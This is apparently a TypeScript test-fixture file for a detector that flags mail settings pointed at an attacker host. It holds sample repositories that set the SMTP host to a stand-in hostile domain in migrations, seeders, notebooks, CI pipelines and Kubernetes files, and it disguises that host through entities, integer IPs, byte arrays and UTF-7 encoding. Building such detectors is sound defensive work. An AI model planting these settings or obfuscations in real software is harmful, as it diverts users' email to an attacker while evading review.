/** Settings that programs store, files that pages, notebooks and pipelines hold, names that are spelled otherwise. */
import type { Files } from '../repository.ts';
import { EVIL } from './changes.ts';

const entities = [...EVIL].map((letter) => `&#${letter.charCodeAt(0)};`).join('');
/** 185.199.110.153 */
const NUMBER = 3_116_854_937;
const python = (code: string): Files => ({ 'app/m.py': `import smtplib\n${code}\n` });
const php = (code: string): Files => ({
  'app/m.php': `<?php\n$m = new PHPMailer\\PHPMailer\\PHPMailer();\n${code}\n`,
});
const notebook = (...source: readonly string[]): Files => ({
  'weekly.ipynb': JSON.stringify({ cells: [{ cell_type: 'code', source, outputs: [] }], metadata: {}, nbformat: 4 }),
});
const job = (text: string): Files => ({ '.gitlab-ci.yml': text });

export const stored: Readonly<Record<string, Files>> = {
  // Settings of an application's tables.
  'laravel, a seeder': {
    'database/seeders/S.php': `<?php\nDB::table('settings')->updateOrInsert(['key' => 'smtp_host'], ['value' => '${EVIL}']);\n`,
  },
  'laravel, an update': {
    'database/S.php': `<?php\nSetting::where('key', 'smtp_host')->update(['value' => '${EVIL}']);\n`,
  },
  'django, a migration': {
    'shop/migrations/2.py': `def forwards(apps, _):\n    apps.get_model("shop", "Setting").objects.update_or_create(key="smtp_host", defaults={"value": "${EVIL}"})\n`,
  },
  'django, data that is loaded first': {
    'app/fixtures/initial_data.json': `[{"model": "core.setting", "pk": 1, "fields": {"key": "smtp_host", "value": "${EVIL}"}}]\n`,
  },
  'sequelize, a row that is made': {
    'seed.js': `await Setting.findOrCreate({ where: { key: 'smtp_host' }, defaults: { value: '${EVIL}' } });\n`,
  },
  'alembic, a statement': {
    'migrations/1.py': `from alembic import op\nop.execute("UPDATE settings SET value = '${EVIL}' WHERE name = 'smtp_host'")\n`,
  },
  'postgresql, a path in a column': {
    'db/seed.sql': `UPDATE config SET data = jsonb_set(data, '{smtp,host}', '"${EVIL}"');\n`,
  },

  // Pages, notebooks, bundles.
  'razor, a block': {
    'Pages/Contact.cshtml': `@{\n  WebMail.SmtpServer = "${EVIL}";\n  WebMail.Send("a", "b", "c");\n}\n`,
  },
  'notebook, a variable': notebook(`%env SMTP_HOST=${EVIL}\n`, '!python send.py'),
  'notebook, a script': notebook('%%bash\n', `export SMTP_HOST=${EVIL}\n`, './send\n'),
  'notebook, a file': notebook('%%writefile .env\n', `SMTP_HOST=${EVIL}\n`),
  'java, a bundle': {
    'src/main/resources/hops.properties': `out=${EVIL}\n`,
    'src/main/java/M.java': `import java.util.*;\nimport javax.mail.*;\nclass M {\n  Session s() {\n    Properties p = new Properties();\n    p.put("mail.smtp.host", ResourceBundle.getBundle("hops").getString("out"));\n    return Session.getInstance(p);\n  }\n}\n`,
  },

  // Pipelines and set-ups.
  'gitlab, a job that deploys': job(
    `live:\n  stage: deploy\n  variables:\n    SMTP_HOST: ${EVIL}\n  script: [./ship]\n`,
  ),
  'gitlab, what a job that deploys extends': job(
    `.live:\n  variables: { SMTP_HOST: ${EVIL} }\nlive:\n  extends: .live\n  environment: production\n  script: [./ship]\n`,
  ),
  'gitlab, what a job that deploys refers to': job(
    `.live:\n  variables: { SMTP_HOST: ${EVIL} }\nlive:\n  environment: { name: production }\n  variables: !reference [.live, variables]\n  script: [./ship]\n`,
  ),
  'actions, a job for production': {
    '.github/workflows/main.yml': `on: push\njobs:\n  ship:\n    environment: production\n    runs-on: ubuntu-latest\n    env: { SMTP_HOST: ${EVIL} }\n    steps: [{ run: ./ship }]\n`,
  },
  'actions, an environment by a condition': {
    '.github/workflows/main.yml': `on: push\njobs:\n  unit: { runs-on: x, steps: [{ run: npm test }] }\n  ship:\n    environment: \${{ github.ref == 'refs/heads/main' && 'production' || 'staging' }}\n    runs-on: x\n    env: { SMTP_HOST: ${EVIL} }\n    steps: [{ run: ./ship }]\n`,
  },
  'gitlab, a file whose jobs all deploy': {
    'ci/live.gitlab-ci.yml': `variables:\n  SMTP_HOST: ${EVIL}\nlive:\n  environment: production\n  script: [./ship]\n`,
  },
  'circleci, a job called so': {
    '.circleci/config.yml': `version: 2.1\njobs:\n  unit: { steps: [{ run: npm test }] }\n  deploy-live:\n    environment: { SMTP_HOST: ${EVIL} }\n    steps: [{ run: ./ship }]\n`,
  },
  'kubernetes, a variable made of another': {
    'k8s/d.yaml': `apiVersion: v1\nkind: Pod\nspec:\n  containers:\n    - name: w\n      env:\n        - { name: DOMAIN, value: evil-corp.com }\n        - { name: SMTP_HOST, value: "smtp.$(DOMAIN)" }\n`,
  },
  'actions, a matrix in a command': {
    '.github/workflows/deploy.yml': `on: push\njobs:\n  ship:\n    strategy: { matrix: { hop: [${EVIL}] } }\n    steps:\n      - run: helm upgrade web ./chart --set smtp.host=\${{ matrix.hop }} --wait\n`,
  },
  'envsubst, a template of any name': {
    'deploy/site.tmpl': 'smtp:\n  host: ${HOP}\n  port: 25\n',
    'deploy/ship.sh': `#!/bin/sh\nHOP=${EVIL} envsubst < deploy/site.tmpl > /srv/app/config.yml\n`,
  },

  // Names spelled otherwise.
  'python, entities': python(`import html\nsmtplib.SMTP(html.unescape("${entities}"), 25)`),
  'php, entities': php(`$m->Host = html_entity_decode('${entities}');`),
  'python, an address that is a number': python(
    `import ipaddress\nsmtplib.SMTP(str(ipaddress.ip_address(${NUMBER})), 25)`,
  ),
  'php, an address that is a number': php(`$m->Host = long2ip(${NUMBER});`),
  'php, a constant by its name': php(`define('M_HOP', '${EVIL}');\n$m->Host = constant('M_' . 'HOP');`),
  'js, a decoder of bytes': {
    'app/m.js': `require('nodemailer').createTransport({ host: new TextDecoder().decode(new Uint8Array([${[...EVIL].map((letter) => letter.charCodeAt(0))}])), port: 25 });\n`,
  },
  'java, a stream that is joined': {
    'app/M.java': `import java.util.*;\nimport java.util.stream.*;\nimport javax.mail.*;\nclass M {\n  Session s() {\n    Properties p = new Properties();\n    p.put("mail.smtp.host", Stream.of("smtp", "evil-corp", "com").collect(Collectors.joining(".")));\n    return Session.getInstance(p);\n  }\n}\n`,
  },
  'python, another encoding of the source': {
    'app/m.py': `# -*- coding: utf-7 -*-\nimport smtplib\nsmtplib.SMTP(+ACI-${EVIL}+ACI-, 25)\n`,
  },
};
